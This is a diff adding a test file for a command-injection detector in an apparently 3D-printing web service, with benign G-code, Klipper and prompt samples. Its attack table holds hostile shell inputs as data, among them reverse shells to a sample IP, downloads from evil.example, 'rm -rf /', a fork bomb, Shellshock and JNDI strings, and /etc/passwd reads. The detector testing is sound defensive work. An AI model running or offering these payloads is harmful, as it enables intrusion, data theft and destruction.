@@ -1,0 +1,226 @@
+import fc from "fast-check";
+import { describe, expect, it } from "vitest";
+import { commandInjectionDetector } from "@/lib/security/detectors/command-injection";
+import { normalizedForms } from "@/lib/security/sanitizer/normalize";
+import type { InspectedValue, LocationKind, ThreatLevel } from "@/lib/security/sanitizer/types";
+
+function inspect(raw: string, kind: LocationKind = "body", location = "body.prompt") {
+  const value: InspectedValue = { location, kind, raw, forms: normalizedForms(raw) };
+  return commandInjectionDetector.detect(value);
+}
+
+type Row = [input: string, rule: string, level: ThreatLevel];
+
+const ATTACKS: Record<string, Row[]> = {
+  "a command after a separator": [
+    ["127.0.0.1; cat /etc/passwd", "cmdi.chained-command", "high"],
+    ["x | whoami", "cmdi.chained-command", "high"],
+    ["a && id", "cmdi.chained-command", "high"],
+    ["foo || ls -la", "cmdi.chained-command", "high"],
+    ["name\nuname -a", "cmdi.chained-command", "high"],
+    ["1; sleep 5", "cmdi.chained-command", "high"],
+    [";id #", "cmdi.chained-command", "high"],
+    ["127.0.0.1 & ping -n 3 127.0.0.1", "cmdi.chained-command", "high"],
+    ["';htop'", "cmdi.chained-command", "high"],
+    [";'curl' http://evil.example", "cmdi.chained-command", "high"],
+    ["time; ansible-playbook site.yml", "cmdi.chained-command", "high"],
+  ],
+  "a command at the start with shell arguments": [
+    ["cat /etc/passwd", "cmdi.command", "high"],
+    ["wget http://evil.example/x.sh -O /tmp/x", "cmdi.command", "high"],
+    ["ls -l /etc", "cmdi.command", "high"],
+    ["time sh -c whoami", "cmdi.command", "high"],
+    ["whoami", "cmdi.command", "high"],
+    ["printf dW5hbWUgLWE=|base64 -d|sh", "cmdi.command", "high"],
+  ],
+  "command substitution": [
+    ["$(whoami)", "cmdi.substitution", "high"],
+    ["`uname -a`", "cmdi.substitution", "high"],
+    ["test`id`", "cmdi.substitution", "high"],
+    ["file=<(cat /etc/passwd)", "cmdi.substitution", "high"],
+    ["${jndi:ldap://evil.example/a}", "cmdi.parameter-expansion", "high"],
+  ],
+  "obfuscated command words": [
+    ["c'a't /etc/passwd", "cmdi.obfuscated-command", "high"],
+    ["c\\at /etc/passwd", "cmdi.obfuscated-command", "high"],
+    ["x;ca$@t /etc/passwd", "cmdi.obfuscated-command", "high"],
+    ["x;cat${IFS}/etc/passwd", "cmdi.obfuscated-command", "high"],
+    ["who$()ami", "cmdi.obfuscated-command", "high"],
+    ['""p""y""t""h""o""n"" -c "import os"', "cmdi.obfuscated-command", "high"],
+    ["{cat,/etc/passwd}", "cmdi.obfuscated-command", "high"],
+    ["x;/???/c?t /etc/passwd", "cmdi.glob-path", "high"],
+    ["/etc/pa[s]swd", "cmdi.glob-path", "high"],
+    ["w^h^o^a^m^i", "cmdi.obfuscated-command", "high"],
+  ],
+  "variables holding the command": [
+    ["a=/etc&&b=/passwd&&c=cat&&$c $a$b", "cmdi.chained-command", "high"],
+    ["a=nc&&$a -nlvp 555", "cmdi.chained-command", "high"],
+    ["$SHELL -c 'echo hi'", "cmdi.command", "high"],
+  ],
+  "decisive shapes": [
+    ["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "cmdi.reverse-shell", "critical"],
+    ["; nc -e /bin/sh 10.0.0.1 4444", "cmdi.reverse-shell", "critical"],
+    ["; rm -rf /", "cmdi.destructive", "critical"],
+    [":(){ :|:& };:", "cmdi.fork-bomb", "critical"],
+    ["() { :; }; /bin/bash -c id", "cmdi.shellshock", "critical"],
+    ['<!--#exec cmd="id"-->', "cmdi.server-side-include", "high"],
+    ["1;.shell id", "cmdi.sqlite-dot-command", "high"],
+    ["alias ls='rm -rf ~'", "cmdi.alias", "high"],
+    ["~+", "cmdi.tilde-expansion", "medium"],
+    ["!-1!-2", "cmdi.history-expansion", "medium"],
+  ],
+  "Windows cmd.exe and PowerShell": [
+    ["& net user hacker P@ss /add", "cmdi.chained-command", "high"],
+    ["x | type C:\\windows\\win.ini", "cmdi.chained-command", "high"],
+    ["%COMSPEC% /c whoami", "cmdi.command", "high"],
+    ["cmd.exe /c dir", "cmdi.command", "high"],
+    ["for /f %i in ('whoami') do echo %i", "cmdi.windows-batch", "high"],
+    ["IF EXIST C:\\boot.ini ECHO found", "cmdi.windows-batch", "high"],
+    ["if %ERRORLEVEL% NEQ 0 goto fail", "cmdi.windows-batch", "high"],
+    ["powershell -enc SQBFAFgA", "cmdi.command", "high"],
+    ["Invoke-WebRequest http://evil.example/x.ps1", "cmdi.command", "high"],
+    ["IEX(New-Object Net.WebClient).DownloadString('http://x')", "cmdi.command", "high"],
+  ],
+  "mail-protocol commands after a line break": [
+    ["x\r\nMAIL FROM:<a@b.example>", "cmdi.mail-injection", "medium"],
+    ["x\r\nRCPT TO:<victim@b.example>", "cmdi.mail-injection", "medium"],
+    ["x\r\na001 LOGIN admin secret", "cmdi.mail-injection", "medium"],
+    ["x\r\nRETR 1", "cmdi.mail-injection", "medium"],
+  ],
+};
+
+/** What a 3D-print system really receives: G-code, Klipper config and macros, slicer templates, prompts, names. */
+const BENIGN: Record<string, string[]> = {
+  "G-code and Klipper": [
+    "M104 S200 ; set hotend temperature",
+    "G1 X10 Y20 F3000",
+    "G28 ; home all axes",
+    "M117 Printing... ; display",
+    "SET_INPUT_SHAPER SHAPER_TYPE_X=<carriage_x_shaper> SHAPER_FREQ_X=<carriage_x_freq>",
+    "{% set x = params.X|default(0)|float %}",
+    '{% if printer.toolhead.homed_axes != "xyz" %}',
+    "{% for i in range(params.T | int) %}",
+    "{% if EXTRUDERS_ENABLED_COUNT|int == 2 %}",
+    'RESPOND MSG="Homing..."',
+    "serial: /dev/serial/by-id/usb-Klipper_stm32-if00",
+    "# avrdude -p atmega2560 -c wiring -P /dev/ttyUSB0 -D -U flash:w:klipper.elf.hex:i",
+    "SAVE_VARIABLE VARIABLE=last_temp VALUE={params.TEMP|default(200)|int}",
+    "M104 S0                        ; turn off hotend while waiting for bed to get to temp",
+    "#    M163 S1 P0 ; set extruder 1",
+    "G28\nM104 S200\nHELP",
+    "G4 P5000 ; sleep 5 s",
+    ";TIME:3600",
+    "; end_gcode = G1 E-1 F2100 ; retract\\nG92 E0\\nM104 S0 ; turn off",
+  ],
+  "slicer templates and settings": [
+    "{if nozzle_diameter[0]==0.4}0.027{endif}",
+    "layer_height = 0.2\nfill_density = 15%\nfill_pattern = gyroid",
+    "ironing = 1\nironing_type = top\nironing_flowrate = 15%",
+    '{"command": "select", "print": true}',
+  ],
+  "file names": [
+    "bracket v2 (final).stl",
+    '"%1%" preset',
+    "models/parts/hinge-left.3mf",
+    "Benchy_0.4n_PLA_1h23m.gcode",
+    "cat.stl",
+  ],
+  "prompts": [
+    "print a cat figurine; rm the supports after",
+    "tolerance & fit | 0.2 mm",
+    "echo the first layer",
+    "Make it more rigid; time is not an issue",
+    "Set the fan to 100%; wait for the bed",
+    "kill the print if it fails; sleep mode after",
+    "Head to the settings page; tail of the part is warped",
+    "Sort the parts by size & print the small ones first",
+    "I'd like PETG; it's stronger",
+    "at 5:00 start the print",
+    "Print a sign that says \"rm -rf\" as a joke",
+    "Ping 192.168.1.50 does not answer, is the printer offline?",
+    "Tube OD 20; ID 16",
+    "Cat shadow box with LED strip",
+    "Wi-Fi & SSH access for the printer",
+    "Printer name & ID",
+    "What does `set` do in a macro?",
+    "G92 Z0 ; set Z=0 here",
+    "startup & shutdown",
+    "Backup & Restore",
+    "Curl the filament end before loading",
+    "Bash the old supports off with pliers",
+    "If not defined, use the default profile",
+    "Price is $5 each; $3 for the small one",
+    "temperature > 200 and < 240",
+    "Wait for acknowledging <code>ok</code> for non-GCODE commands",
+    "Make door signs for Room 236 / Room 400 (raised letters)",
+    "The quick brown fox; \"jumped over the lazy dog\"",
+  ],
+  "multi-line notes (a textarea posts CRLF)": [
+    "Steps:\n1 select the model\n2 copy it\n3 delete the old one",
+    "Notes:\r\nMail from: Bob\r\nthanks",
+    "Parts:\r\nA1 copy\r\nB2 delete",
+  ],
+  "headers a browser sends": [
+    "Mozilla/5.0 (Linux; Android 14; PGT-N19 Build/HONORPGT-N49; wv) AppleWebKit/537.36 (KHTML, like Gecko)",
+    "curl/7.81.0",
+    "wget",
+    "https://www.example.com/page?param=test+test",
+  ],
+};
+
+describe("command-injection detector", () => {
+  for (const [technique, rows] of Object.entries(ATTACKS)) {
+    describe(`detects ${technique}`, () => {
+      it.each(rows)("%s → %s (%s)", (input, rule, level) => {
+        const hit = inspect(input);
+        expect(hit).not.toBeNull();
+        expect(hit).toMatchObject({ rule, level });
+      });
+    });
+  }
+
+  for (const [source, lines] of Object.entries(BENIGN)) {
+    describe(`passes ${source}`, () => {
+      it.each(lines)("%s", (line) => {
+        expect(inspect(line)).toBeNull();
+        expect(inspect(line, "query", "query.q")).toBeNull();
+      });
+    });
+  }
+
+  it("reads `+` as a space in values no form decoder saw (JSON, headers)", () => {
+    expect(inspect("www.example.com;c$?at+/etc/passwd", "header", "header.referer")).toMatchObject({ rule: "cmdi.obfuscated-command" });
+  });
+
+  it("treats each parameter of a URL in a header as a value of its own", () => {
+    expect(inspect("https://example.com/?args=env --version", "header", "header.referer")).toMatchObject({ rule: "cmdi.command" });
+  });
+
+  it("flags uploads named like server configuration or code", () => {
+    const value = { location: "body.file.filename", kind: "body" as const, raw: "wp-config.php", forms: ["wp-config.php"] };
+    expect(commandInjectionDetector.detect(value)).toMatchObject({ rule: "cmdi.restricted-upload", level: "high" });
+    expect(commandInjectionDetector.detect({ ...value, raw: "benchy.3mf", forms: ["benchy.3mf"] })).toBeNull();
+  });
+
+  it("returns a verdict for any string, never an exception", () => {
+    const alphabet = fc.constantFrom(..."ab;|&$(){}[]`'\"\\<>!~^%*?=/.-+#\n\r\t cat id ls sh".split(""));
+    fc.assert(
+      fc.property(fc.string({ unit: alphabet, maxLength: 300 }), (s) => {
+        const hit = inspect(s);
+        return hit === null || (hit.rule.startsWith("cmdi.") && ["low", "medium", "high", "critical"].includes(hit.level));
+      }),
+      { numRuns: 500 },
+    );
+  });
+
+  it("stays linear on 1 MiB adversarial inputs", () => {
+    const MiB = 1 << 20;
+    for (const unit of [";a ", "$(", "${", "`", "<a ", "f(){ x ", "\\n", "\r\n", "/???/??? ", "'\"", "+", "$a", "[", "a"]) {
+      const input = unit.repeat(Math.ceil(MiB / unit.length)).slice(0, MiB);
+      const started = performance.now();
+      inspect(input);
+      // Generous for slow CI machines; quadratic behaviour would take minutes.
+      expect(performance.now() - started).toBeLessThan(3000);
+    }
+  });
+});
